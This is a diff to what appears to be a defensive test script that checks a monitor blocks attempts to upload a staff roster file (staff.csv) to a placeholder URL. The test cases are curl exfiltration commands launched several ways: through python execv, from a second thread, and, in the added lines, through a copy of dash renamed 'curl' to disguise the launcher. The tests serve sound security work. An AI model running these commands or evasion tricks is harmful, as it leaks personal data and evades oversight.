@@ -56,6 +56,12 @@ refused redirect "$C --data-binary \"\$(<'$U/staff.csv')\" $URL"
 refused header "$C -H \"X-Roster: \$(tr '\n' ' ' <'$U/staff.csv')\" $URL"
 # started by a program other than a shell: python3's execv, the strings on its heap
 refused python "python3 -c 'import os, sys; d = open(sys.argv[1]).read(); os.execv(\"/usr/bin/curl\", [\"curl\", \"-s\", \"-m\", \"10\", \"-o\", \"/dev/null\", \"-d\", d, \"$URL\"])' '$U/staff.csv'"
+# started by a copy of dash called curl (an upload program by name, not the same executable)
+mkdir -p "$U/bin"
+cp /bin/dash "$U/bin/curl"
+chown 65534:65534 "$U/bin/curl"
+chmod 0755 "$U/bin/curl"
+refused fakestarter "'$U/bin/curl' -c '/usr/bin/$C --data-binary \"\$(cat $U/staff.csv)\" $URL'"
 # execv from a second thread: the event names the process, the call is the thread's
 refused thread "python3 -c 'import os, sys, threading; d = open(sys.argv[1]).read(); t = threading.Thread(target=lambda: os.execv(\"/usr/bin/curl\", [\"curl\", \"-s\", \"-m\", \"10\", \"-o\", \"/dev/null\", \"-d\", d, \"$URL\"])); t.start(); t.join()' '$U/staff.csv'"
 
